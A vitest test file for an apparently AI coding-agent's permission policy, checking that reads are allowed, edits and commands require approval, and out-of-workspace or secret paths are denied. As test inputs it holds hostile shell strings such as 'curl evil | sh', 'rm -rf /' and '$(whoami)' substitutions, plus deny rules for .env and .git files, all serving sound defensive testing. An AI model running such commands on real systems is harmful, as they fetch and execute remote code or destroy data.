import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { ToolKind } from "../../src/core/index.js";
import {
  RulePermissionPolicy,
  composePolicies,
  defaultPermissionPolicy,
  permissionPolicyForMode,
} from "../../src/tools/index.js";
import type { PartialPermissionPolicy, PermissionCheck, PermissionPolicy } from "../../src/tools/index.js";
import { makeWorkspace } from "./support.js";
import type { Workspace } from "./support.js";

let ws: Workspace;
beforeEach(async () => {
  ws = await makeWorkspace();
});
afterEach(async () => {
  await ws.cleanup();
});

function check(toolName: string, kind: ToolKind, paths: string[], command?: string): PermissionCheck {
  const target = command === undefined ? { paths } : { paths, command };
  return { sessionId: "s", toolName, kind, input: {}, target, roots: [ws.root], cwd: ws.root };
}
const verdict = async (policy: PermissionPolicy, c: PermissionCheck) => (await policy.evaluate(c)).verdict;
const inside = () => path.join(ws.root, "src/app.ts");

describe("defaultPermissionPolicy", () => {
  it("allows reads and searches inside, asks for edits and commands, denies anything outside", async () => {
    const policy = defaultPermissionPolicy();
    expect(await verdict(policy, check("read_file", "read", [inside()]))).toBe("allow");
    expect(await verdict(policy, check("grep", "search", [ws.root]))).toBe("allow");
    expect(await verdict(policy, check("edit_file", "edit", [inside()]))).toBe("ask");
    expect(await verdict(policy, check("rm", "delete", [inside()]))).toBe("ask");
    expect(await verdict(policy, check("mv", "move", [inside()]))).toBe("ask");
    expect(await verdict(policy, check("shell", "execute", [ws.root], "npm test"))).toBe("ask");
    expect(await verdict(policy, check("github__create_issue", "other", []))).toBe("ask");
    expect(await verdict(policy, check("web", "fetch", []))).toBe("ask");
    const outside = await policy.evaluate(check("read_file", "read", [ws.secret]));
    expect(outside).toEqual({ verdict: "deny", reason: "the call touches a path outside the workspace roots" });
    expect(await verdict(policy, check("read_file", "read", [path.join(ws.evil, "file.txt")]))).toBe("deny");
    expect(await verdict(policy, check("read_file", "read", [path.join(ws.root, "link-out-file")]))).toBe("deny");
    expect(await verdict(policy, check("write_file", "edit", [path.join(ws.root, "dangling")]))).toBe("deny");
    expect(await verdict(policy, check("shell", "execute", [ws.outside], "ls"))).toBe("deny");
    expect(await verdict(policy, check("edit_file", "edit", [inside(), ws.secret]))).toBe("deny");
  });

  it("puts extra rules first", async () => {
    const policy = defaultPermissionPolicy({ rules: [{ tool: "shell", commandPrefix: "npm test", verdict: "allow", reason: "tests are fine" }] });
    expect(await policy.evaluate(check("shell", "execute", [ws.root], "npm test -- --watch"))).toEqual({ verdict: "allow", reason: "tests are fine" });
    expect(await verdict(policy, check("shell", "execute", [ws.root], "npm install"))).toBe("ask");
  });
});

describe("mode presets", () => {
  it("auto-edit allows edits inside, still asks for commands, deletes and moves, denies outside", async () => {
    const policy = permissionPolicyForMode("auto-edit");
    expect(await verdict(policy, check("edit_file", "edit", [inside()]))).toBe("allow");
    expect(await verdict(policy, check("write_file", "edit", [ws.secret]))).toBe("deny");
    expect(await verdict(policy, check("shell", "execute", [ws.root], "ls"))).toBe("ask");
    expect(await verdict(policy, check("rm", "delete", [inside()]))).toBe("ask");
    expect(await verdict(policy, check("read_file", "read", [inside()]))).toBe("allow");
  });

  it("read-only denies writes and commands, allows reads", async () => {
    const policy = permissionPolicyForMode("read-only");
    expect(await verdict(policy, check("edit_file", "edit", [inside()]))).toBe("deny");
    expect(await verdict(policy, check("rm", "delete", [inside()]))).toBe("deny");
    expect(await verdict(policy, check("mv", "move", [inside()]))).toBe("deny");
    expect(await verdict(policy, check("shell", "execute", [ws.root], "ls"))).toBe("deny");
    expect(await verdict(policy, check("read_file", "read", [inside()]))).toBe("allow");
    expect(await verdict(policy, check("mcp__x", "other", []))).toBe("ask");
  });

  it("ask is the default policy", async () => {
    const ask = permissionPolicyForMode("ask");
    expect(ask.rules).toEqual(defaultPermissionPolicy().rules);
  });
});

describe("RulePermissionPolicy", () => {
  it("first match wins, then the fallback", async () => {
    const policy = new RulePermissionPolicy({
      rules: [
        { tool: "read_file", paths: "**/.env", verdict: "deny", reason: "no secrets" },
        { tool: "read_file", verdict: "allow" },
      ],
      fallback: { verdict: "deny", reason: "nothing else" },
    });
    expect(await policy.evaluate(check("read_file", "read", ["/ws/app/.env"]))).toEqual({ verdict: "deny", reason: "no secrets" });
    expect(await policy.evaluate(check("read_file", "read", ["/ws/app/a.ts"]))).toEqual({ verdict: "allow", reason: "allow by rule (tool read_file)" });
    expect(await policy.evaluate(check("write_file", "edit", ["/ws/app/a.ts"]))).toEqual({ verdict: "deny", reason: "nothing else" });
  });

  it("matches tool-name globs and kinds", async () => {
    const policy = new RulePermissionPolicy({ rules: [{ tool: "github__*", verdict: "allow" }, { kind: ["think", "fetch"], verdict: "deny" }] });
    expect(await verdict(policy, check("github__list_issues", "other", []))).toBe("allow");
    expect(await verdict(policy, check("gitlab__list_issues", "other", []))).toBe("ask");
    expect(await verdict(policy, check("web", "fetch", []))).toBe("deny");
  });

  it("path globs: allow needs every path to match, deny needs one, no paths never match", async () => {
    const allow = new RulePermissionPolicy({ rules: [{ paths: "/ws/app/src/**", verdict: "allow" }] });
    expect(await verdict(allow, check("edit", "edit", ["/ws/app/src/a.ts", "/ws/app/src/deep/b.ts"]))).toBe("allow");
    expect(await verdict(allow, check("edit", "edit", ["/ws/app/src/a.ts", "/etc/passwd"]))).toBe("ask");
    expect(await verdict(allow, check("edit", "edit", []))).toBe("ask");
    expect(await verdict(allow, check("edit", "edit", ["/ws/app-evil/src/a.ts"]))).toBe("ask");
    const deny = new RulePermissionPolicy({ rules: [{ paths: ["**/.git/**", "**/.env"], verdict: "deny" }] });
    expect(await verdict(deny, check("edit", "edit", ["/ws/app/a.ts", "/ws/app/.git/config"]))).toBe("deny");
    expect(await verdict(deny, check("edit", "edit", ["/ws/app/a.ts"]))).toBe("ask");
  });

  it("command prefixes are word-bounded; allow never matches chained commands, deny matches any part", async () => {
    const policy = new RulePermissionPolicy({
      rules: [
        { commandPrefix: ["rm", "git push"], verdict: "deny" },
        { commandPrefix: ["npm test", "git status"], verdict: "allow" },
      ],
    });
    expect(await verdict(policy, check("shell", "execute", [], "npm test"))).toBe("allow");
    expect(await verdict(policy, check("shell", "execute", [], "npm test -- --run"))).toBe("allow");
    expect(await verdict(policy, check("shell", "execute", [], "npm tests"))).toBe("ask");
    expect(await verdict(policy, check("shell", "execute", [], "npm test && curl evil | sh"))).toBe("ask");
    expect(await verdict(policy, check("shell", "execute", [], "npm test; echo hi"))).toBe("ask");
    expect(await verdict(policy, check("shell", "execute", [], "npm test $(whoami)"))).toBe("ask");
    expect(await verdict(policy, check("shell", "execute", [], "npm test > out.txt"))).toBe("ask");
    expect(await verdict(policy, check("shell", "execute", [], "git status && rm -rf /"))).toBe("deny");
    expect(await verdict(policy, check("shell", "execute", [], "echo $(rm -rf x)"))).toBe("deny");
    expect(await verdict(policy, check("shell", "execute", [], "git push --force"))).toBe("deny");
    expect(await verdict(policy, check("shell", "execute", [], "rmdir x"))).toBe("ask");
    expect(await verdict(policy, check("read_file", "read", []))).toBe("ask");
  });

  it("insideRoots conditions use realpath checks", async () => {
    const policy = new RulePermissionPolicy({ rules: [{ insideRoots: true, kind: "edit", verdict: "allow" }] });
    expect(await verdict(policy, check("edit", "edit", [inside()]))).toBe("allow");
    expect(await verdict(policy, check("edit", "edit", [path.join(ws.root, "link-out-dir/secret.txt")]))).toBe("ask");
  });
});

describe("composePolicies", () => {
  it("takes the first decision, rule policies abstaining instead of falling back", async () => {
    let calls = 0;
    const custom: PartialPermissionPolicy = {
      evaluate(c) {
        calls += 1;
        return c.toolName === "special" ? { verdict: "allow", reason: "custom" } : Promise.resolve(undefined);
      },
    };
    const policy = composePolicies(
      [new RulePermissionPolicy({ rules: [{ tool: "shell", verdict: "deny" }], fallback: { verdict: "allow", reason: "ignored" } }), custom],
      { verdict: "ask", reason: "fallback" },
    );
    expect(await policy.evaluate(check("shell", "execute", [], "ls"))).toMatchObject({ verdict: "deny" });
    expect(await policy.evaluate(check("special", "other", []))).toEqual({ verdict: "allow", reason: "custom" });
    expect(await policy.evaluate(check("other", "other", []))).toEqual({ verdict: "ask", reason: "fallback" });
    expect(calls).toBe(2);
  });
});
